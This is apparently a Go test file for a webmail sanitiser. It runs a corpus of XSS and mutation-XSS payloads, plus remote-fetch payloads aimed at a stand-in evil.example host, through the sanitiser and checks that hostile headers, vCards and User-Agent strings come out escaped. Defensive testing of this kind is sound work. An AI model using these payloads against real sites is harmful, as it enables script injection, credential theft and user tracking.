package webmail

import (
	"context"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// xssCorpus holds payloads that try to run script, submit forms, navigate
// or fetch remote content from inside a message body.
var xssCorpus = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="https://tracker.example/p.gif" width=1 height=1>`,
	`<img src="//tracker.example/p.gif">`,
	`<img srcset="https://evil.example/a.png 1x">`,
	`<img src="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="JaVaScRiPt&colon;alert(1)">click</a>`,
	`<a href="&#106;avascript:alert(1)">click</a>`,
	`<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<body onload=alert(1)>`,
	`<div onmouseover="alert(1)">hover</div>`,
	`<svg onload=alert(1)><animate attributeName=href values="javascript:alert(1)"/></svg>`,
	`<svg><a><animate attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>`,
	`<svg><filter><feImage xlink:href="https://evil.example/i.png"/></filter></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
	`<div style="background:url(https://evil.example/bg.png)">x</div>`,
	`<div style="background-image: url('//evil.example/bg.png')">x</div>`,
	`<p style="color: red; width: expression(alert(1))">x</p>`,
	`<p style="font-family: \75 rl(https://evil.example/)">x</p>`,
	`<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/y)}</style>`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<base href="https://evil.example/">`,
	`<form action="https://evil.example/steal"><input name=p><button formaction="https://evil.example/">go</button></form>`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">`,
	`<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>`,
	`<audio src="https://evil.example/a.mp3" autoplay></audio>`,
	`<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/td.png">x</td></tr></table>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
	`<a href="https://ok.example/" target="_top" ping="https://evil.example/ping">ok</a>`,
	`<img src="cid:unknown@part">`,
	`<div id="x" class="y" data-x="1" formaction="https://evil.example">t</div>`,
	`<details open ontoggle=alert(1)>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<isindex action="https://evil.example/" type=image src="https://evil.example/x">`,
}

var (
	allowedSchemes = regexp.MustCompile(`^(https?:|mailto:|data:image/(png|gif|jpeg|webp);base64,)`)
	badStyle       = regexp.MustCompile(`(?i)url\s*\(|expression|@import|\\|image-set|javascript`)
)

// checkSafe parses sanitised output as a browser would and fails on any
// element or attribute that could run code, submit or fetch.
func checkSafe(t *testing.T, payload, out string, remote bool) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatalf("parse output: %v", err)
	}
	allowedEls := map[string]bool{"html": true, "head": true, "body": true, "a": true, "img": true}
	for _, e := range textElements {
		allowedEls[e] = true
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if !allowedEls[n.Data] {
				t.Errorf("payload %q: element <%s> in output %q", payload, n.Data, out)
			}
			for _, a := range n.Attr {
				k := strings.ToLower(a.Key)
				v := strings.TrimSpace(a.Val)
				switch {
				case strings.HasPrefix(k, "on") || k == "formaction" || k == "srcdoc" || k == "srcset" || k == "background" ||
					k == "poster" || k == "ping" || k == "action" || a.Namespace != "":
					t.Errorf("payload %q: attribute %s in %q", payload, k, out)
				case k == "href" && !allowedSchemes.MatchString(strings.ToLower(v)):
					t.Errorf("payload %q: href %q", payload, v)
				case k == "src" && v != "" && !(remote && strings.HasPrefix(v, "https:")) && !strings.HasPrefix(v, "data:image/"):
					t.Errorf("payload %q: src %q (remote=%v)", payload, v, remote)
				case k == "style" && badStyle.MatchString(v):
					t.Errorf("payload %q: style %q", payload, v)
				case k == "target" && v != "_blank":
					t.Errorf("payload %q: target %q", payload, v)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	low := strings.ToLower(out)
	for _, s := range []string{"<script", "javascript:", "vbscript:", "onerror=", "onload=", "http-equiv", "<base", "<form"} {
		if strings.Contains(low, s) {
			t.Errorf("payload %q: output contains %q: %q", payload, s, out)
		}
	}
	if !remote {
		for _, s := range []string{`src="http`, `src="//`, "url("} {
			if strings.Contains(low, s) {
				t.Errorf("payload %q: remote reference %q survives: %q", payload, s, out)
			}
		}
	}
}

func TestSanitizeCorpus(t *testing.T) {
	z := newSanitizer()
	for _, remote := range []bool{false, true} {
		for _, p := range xssCorpus {
			out := z.sanitize(p, remote, nil)
			checkSafe(t, p, out, remote)
			// Sanitising the output again must not change it (no mXSS
			// reparse surprises).
			if again := z.sanitize(out, remote, nil); len(again) > len(out) {
				t.Errorf("payload %q: sanitising again grew the output:\n%q\n%q", p, out, again)
			} else {
				checkSafe(t, p, again, remote)
			}
		}
	}
}

func TestSanitizeKeepsFormattingAndInlineImages(t *testing.T) {
	z := newSanitizer()
	in := `<p style="color: red">Hi <b>there</b></p><a href="https://example.org/x">link</a><img src="cid:logo@x" alt="logo"><img src="https://remote.example/a.png">`
	out := z.sanitize(in, false, map[string]string{"logo@x": "data:image/png;base64,iVBORw0KGgo="})
	for _, want := range []string{`<p style="color: red">`, "<b>there</b>", `href="https://example.org/x"`, `rel="noreferrer noopener"`, `target="_blank"`,
		`src="data:image/png;base64,iVBORw0KGgo="`, `<img src="">`} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q: %s", want, out)
		}
	}
	if !hasRemoteContent(in) || hasRemoteContent(`<img src="cid:x">`) {
		t.Error("remote content detection wrong")
	}
	out = z.sanitize(in, true, nil)
	if !strings.Contains(out, `src="https://remote.example/a.png"`) {
		t.Errorf("remote image dropped although allowed: %s", out)
	}
}

func TestHostileHeadersEscaped(t *testing.T) {
	f := newFixture(t)
	f.deliver(t, "x@example.net", []string{"alice@example.com"}, "From: \"<img src=x onerror=alert(1)>\" <x@example.net>\n"+
		"To: \"<script>alert(2)</script>\" <alice@example.com>\nSubject: <script>alert(3)</script>\n"+
		"Content-Type: multipart/mixed; boundary=Q\n\n--Q\nContent-Type: text/plain\n\n<script>alert(4)</script> javascript:alert(5) \"><img src=x onerror=alert(6)>\n"+
		"--Q\nContent-Type: text/html\nContent-Disposition: attachment; filename=\"<svg onload=alert(7)>.html\"\n\n<script>alert(8)</script>\n--Q--\n")
	c := f.client(t)
	c.login("alice@example.com")
	box := itoa(f.box(t, "alice@example.com", "INBOX").ID)
	for _, p := range []string{"/box/" + box, "/msg/" + box + "/1", "/compose?mode=all&box=" + box + "&uid=1", "/search?q=alert"} {
		_, body := c.get(p)
		for _, bad := range []string{"<script>alert", "<img src=x", "<svg onload", `href="javascript:`} {
			if strings.Contains(body, bad) {
				t.Errorf("%s: unescaped %q", p, bad)
			}
		}
	}
	_, body := c.get("/msg/" + box + "/1")
	if !strings.Contains(body, "&lt;svg onload=alert(7)&gt;.html") {
		t.Error("attachment name not shown escaped")
	}
	resp, data := c.get("/msg/" + box + "/1/part/2")
	expectStatus(t, resp, http.StatusOK, data)
	h := resp.Header
	if h.Get("Content-Type") != "application/octet-stream" || h.Get("X-Content-Type-Options") != "nosniff" ||
		!strings.HasPrefix(h.Get("Content-Disposition"), "attachment;") || !strings.Contains(h.Get("Content-Disposition"), "filename*=UTF-8''%3Csvg%20onload%3Dalert%287%29%3E.html") ||
		!strings.Contains(h.Get("Content-Security-Policy"), "sandbox") {
		t.Errorf("unsafe download headers: %v", h)
	}
}

func TestRemoteContentControls(t *testing.T) {
	f := newFixture(t)
	f.deliver(t, "news@example.net", []string{"alice@example.com"}, "From: News <news@example.net>\nSubject: letter\nContent-Type: text/html\n\n"+
		`<p>Hello</p><img src="https://tracker.example/p.gif"><script>alert(1)</script>`+"\n")
	c := f.client(t)
	c.login("alice@example.com")
	box := itoa(f.box(t, "alice@example.com", "INBOX").ID)
	_, page := c.get("/msg/" + box + "/1")
	if !strings.Contains(page, `id="remote-bar"`) || !strings.Contains(page, `sandbox="allow-popups allow-popups-to-escape-sandbox"`) ||
		!strings.Contains(page, `src="/msg/`+box+`/1/body"`) {
		t.Fatalf("read page lacks remote bar or sandboxed frame:\n%s", page)
	}
	resp, body := c.get("/msg/" + box + "/1/body")
	csp := resp.Header.Get("Content-Security-Policy")
	if !strings.Contains(csp, "img-src data:;") || !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "sandbox") ||
		strings.Contains(body, "tracker.example") || strings.Contains(body, "<script") || !strings.Contains(body, "<p>Hello</p>") {
		t.Fatalf("strict body: csp %q body %s", csp, body)
	}
	resp, body = c.get("/msg/" + box + "/1/body?remote=1")
	if !strings.Contains(resp.Header.Get("Content-Security-Policy"), "img-src data: https:") || !strings.Contains(body, "https://tracker.example/p.gif") {
		t.Fatalf("load once did not allow remote images")
	}
	resp, _ = c.post("/msg/"+box+"/1/remote", nil)
	expectStatus(t, resp, http.StatusSeeOther, "")
	_, page = c.get("/msg/" + box + "/1")
	if strings.Contains(page, `id="remote-bar"`) || !strings.Contains(page, "/body?remote=1") {
		t.Fatal("always-allow for sender not applied")
	}
	// The allow list survives a restart (a new server over the same store).
	s2 := New(Config{}, f.st, f.srv.authn, nil, quiet())
	p, err := s2.prefs.get(context.Background(), f.ids["alice@example.com"])
	if err != nil || !p.allowsRemote("news@example.net") {
		t.Fatalf("allow list not persisted: %v %+v", err, p)
	}
}

// TestNewViewsEscaped: every view added for issue 27 escapes what came
// from mail, from a vCard file, from a browser's User-Agent and from the
// user: the reading pane, sorted and threaded lists, all headers, the
// source, contacts and their card form, identities in the settings and
// the compose form, and the list of sessions.
func TestNewViewsEscaped(t *testing.T) {
	f := newFixture(t)
	const evil = `<img src=x onerror=alert(1)>"'<script>alert(2)</script>`
	f.deliver(t, "x@example.net", []string{"alice@example.com"}, "From: \""+evil+"\" <x@example.net>\nTo: alice@example.com\n"+
		"Subject: "+evil+"\nMessage-ID: <a@x>\nX-Evil: "+evil+"\n\nbody "+evil+"\n")
	f.deliver(t, "x@example.net", []string{"alice@example.com"}, "From: y@example.net\nSubject: Re: "+evil+"\nMessage-ID: <b@x>\nIn-Reply-To: <a@x>\n\nreply\n")
	c := f.client(t)
	req, _ := http.NewRequest("GET", f.ts.URL+"/login", nil)
	req.Header.Set("User-Agent", evil)
	c.do(req)
	c.http.Transport = uaTransport{evil}
	c.login("alice@example.com")
	vcf := "BEGIN:VCARD\r\nVERSION:4.0\r\nUID:" + strings.ReplaceAll(evil, "\"", "") + "\r\nFN:" + evil + "\r\nEMAIL:ev@example.net\r\nCATEGORIES:" + strings.ReplaceAll(evil, ",", "") +
		"\r\nNOTE:" + evil + "\r\nEND:VCARD\r\n"
	resp, body := c.postFile("/contacts/import", "file", "evil.vcf", []byte(vcf))
	expectStatus(t, resp, http.StatusSeeOther, body)
	if resp, body := c.post("/settings/identity", url.Values{"id": {"0"}, "address": {"alice@example.com"}, "name": {evil}, "signature": {evil}}); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("identity: %d %s", resp.StatusCode, body)
	}
	box := itoa(f.box(t, "alice@example.com", "INBOX").ID)
	cs, _ := f.st.Contacts(context.Background(), f.ids["alice@example.com"])
	if len(cs) != 1 {
		t.Fatalf("imported %d cards", len(cs))
	}
	if resp, body := c.post("/view", url.Values{"box": {box}, "sort": {"subject"}, "threads": {"1"}}); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("view: %d %s", resp.StatusCode, body)
	}
	pages := []string{"/box/" + box, "/box/" + box + "?msg=1", "/msg/" + box + "/1?headers=1", "/msg/" + box + "/1/source",
		"/contacts", "/contacts?group=" + url.QueryEscape(cs[0].Groups[0]), "/contacts/card?href=" + url.QueryEscape(cs[0].Href),
		"/settings", "/compose", "/compose?mode=reply&box=" + box + "&uid=1"}
	for _, p := range pages {
		resp, body := c.get(p)
		expectStatus(t, resp, http.StatusOK, body)
		for _, bad := range []string{"<script>alert", "<img src=x", "onerror=alert(1)>"} {
			if strings.Contains(body, bad) {
				t.Errorf("%s: unescaped %q", p, bad)
			}
		}
		if !strings.Contains(body, "&lt;script&gt;alert(2)&lt;/script&gt;") && !strings.Contains(body, "&lt;img src=x") {
			t.Errorf("%s: the hostile text is not shown escaped", p)
		}
	}
	// The source is text in the page, never the message as a document.
	resp, body = c.get("/msg/" + box + "/1/source")
	if ct := resp.Header.Get("Content-Type"); ct != "text/html; charset=utf-8" || !strings.Contains(body, `<pre class="source" id="source">`) ||
		!strings.Contains(resp.Header.Get("Content-Security-Policy"), "script-src 'self'") {
		t.Fatalf("source page: %s %v", ct, resp.Header)
	}
	resp, body = c.get("/contacts/export")
	if resp.Header.Get("Content-Type") != "text/vcard; charset=utf-8" || !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment;") ||
		!strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") {
		t.Fatalf("export headers: %v", resp.Header)
	}
}

// uaTransport sends every request with a User-Agent.
type uaTransport struct{ ua string }

func (u uaTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("User-Agent", u.ua)
	return http.DefaultTransport.RoundTrip(r)
}
